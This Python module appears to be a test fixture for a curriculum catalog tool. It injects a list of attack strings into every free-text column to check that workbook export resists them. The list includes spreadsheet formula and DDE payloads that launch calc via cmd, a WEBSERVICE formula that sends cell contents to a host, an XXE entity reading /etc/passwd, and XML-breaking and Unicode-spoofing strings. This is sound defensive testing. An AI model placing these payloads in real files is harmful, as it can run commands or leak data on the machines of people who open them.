"""Catalogs whose every free text is an attack on whoever opens what is written of it.

The columns come from the definitions of the records, so a new text column is attacked without a change here.
"""

from __future__ import annotations

import types
import typing
from collections.abc import Iterator
from typing import Any

from pydantic import ValidationError

from curriplan.base.errors import Severity
from curriplan.catalog.reading.raw import REFUSED
from curriplan.catalog.records import RECORDS, TABLES, Catalog, CatalogInfo, Record
from curriplan.problem.checks import check_catalog
from curriplan.xlsx.legal import clean_text

PAYLOADS = (
    "=cmd|'/c calc'!A1",
    "=1+1",
    '=HYPERLINK("http://example.com","x")',
    '=WEBSERVICE("http://example.com/"&A1)',
    "+1+1",
    "-1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \t =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "﹢1",
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    'DDE("cmd";"/c calc";"x")',
    "MSEXCEL|'\\..\\..\\Windows\\calc.exe'!A1",
    "http://example.com",
    "https://example.com/?a=b&c=d",
    "mailto:a@example.com",
    "ftp://example.com",
    "file:///etc/passwd",
    "\\\\server\\share",
    "internal:'Summary'!A1",
    "external:other.xlsx#A1",
    "<f>1+1</f>",
    '</t></is></c><c r="A1"><f>1+1</f></c>',
    "]]><!--&lt;&#0;&amp;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "_x003D_1+1",
    "_x0007_",
    "a\x00b\x07c\x1b\x7f\x85",
    "line\nbreak\r\nand\vothers",
    "\u202e=1+1",
    "\u200f\u2066=1+1\u2069",
    "\u200b=1+1",
    "&L&8&P&N&G",
    "{0}{a}%s{{}}",
    "[bold red]x[/]",
    "*",
    "?~*<>",
    "0123",
    "1e5",
    "TRUE",
    "#REF!",
    "x" * 33_000,
    "=" + "1+" * 20_000 + "1",
    "\U0001f600" * 20_000,
    "<r><t>=1+1</t></r>",
    "<r>&</r>",
)
LEFT_ALONE = frozenset({"id", "catalog_schema", "language", "profile", "origin"})
"""Of the catalog itself: ids have their own pattern, which no payload meets."""


def is_free_text(annotation: Any) -> bool:
    """Say whether a field holds any text: not an id with its pattern, not one of some words."""
    if annotation is str:
        return True
    arguments = typing.get_args(annotation)
    if typing.get_origin(annotation) in (typing.Union, types.UnionType):
        return any(is_free_text(one) for one in arguments if one is not type(None))
    return False


def text_columns(record: type[Record] | type[CatalogInfo]) -> tuple[str, ...]:
    """Return the fields of a table that take any text at all."""
    fields = record.model_fields.items()
    return tuple(
        name
        for name, field in fields
        if name not in LEFT_ALONE and not field.metadata and is_free_text(field.annotation)
    )


def refused(catalog: Catalog, record: type[Record], name: str) -> bool:
    """Say whether a catalog with a payload in this column is refused before anything is written of it."""
    rows = catalog.table(record.table)
    data = rows[0].model_dump(by_alias=True)
    alias = record.model_fields[name].alias or name
    try:
        record.model_validate({**data, alias: "=1+1"})
    except ValidationError:
        return True
    changed = (rows[0].model_copy(update={name: "=1+1"}), *rows[1:])
    found = check_catalog(catalog.replace(**{record.table: changed}))
    return any(issue.severity is Severity.ERROR for issue in found)


def attacked_columns(catalog: Catalog) -> dict[str, tuple[str, ...]]:
    """Return the columns of each filled table that a payload can stand in."""
    return {
        record.table: tuple(name for name in text_columns(record) if not refused(catalog, record, name))
        for record in RECORDS
        if catalog.table(record.table)
    }


def attacked(catalog: Catalog, columns: dict[str, tuple[str, ...]], texts: Iterator[str]) -> Catalog:
    """Return the catalog with the next of `texts` in each cell of these columns and of the catalog itself."""
    tables = {
        table: tuple(
            row.model_copy(update={name: next(texts) for name in columns.get(table, ())})
            for row in catalog.table(table)
        )
        for table in TABLES
    }
    about = {name: next(texts) for name in text_columns(CatalogInfo)}
    info = catalog.info.model_copy(update={**about, "attribution": (next(texts), next(texts))})
    return catalog.replace(info=info, **tables)


def holdable(catalog: Catalog) -> Catalog:
    """Return the catalog without what a workbook cannot hold, and what no reader takes."""

    def held(value: Any) -> Any:
        if isinstance(value, tuple):
            return tuple(held(one) for one in value)
        return REFUSED.sub("", clean_text(value)) if type(value) is str else value

    tables = {
        table: tuple(
            row.model_copy(update={name: held(value) for name, value in row}) for row in catalog.table(table)
        )
        for table in TABLES
    }
    info = catalog.info.model_copy(update={name: held(value) for name, value in catalog.info})
    return catalog.replace(info=info, **tables)


def harmless(payloads: tuple[str, ...]) -> tuple[str, ...]:
    """Return a plain word for each payload, so that alike texts stay alike."""
    return tuple(f"word {place:02}" for place, _ in enumerate(payloads))
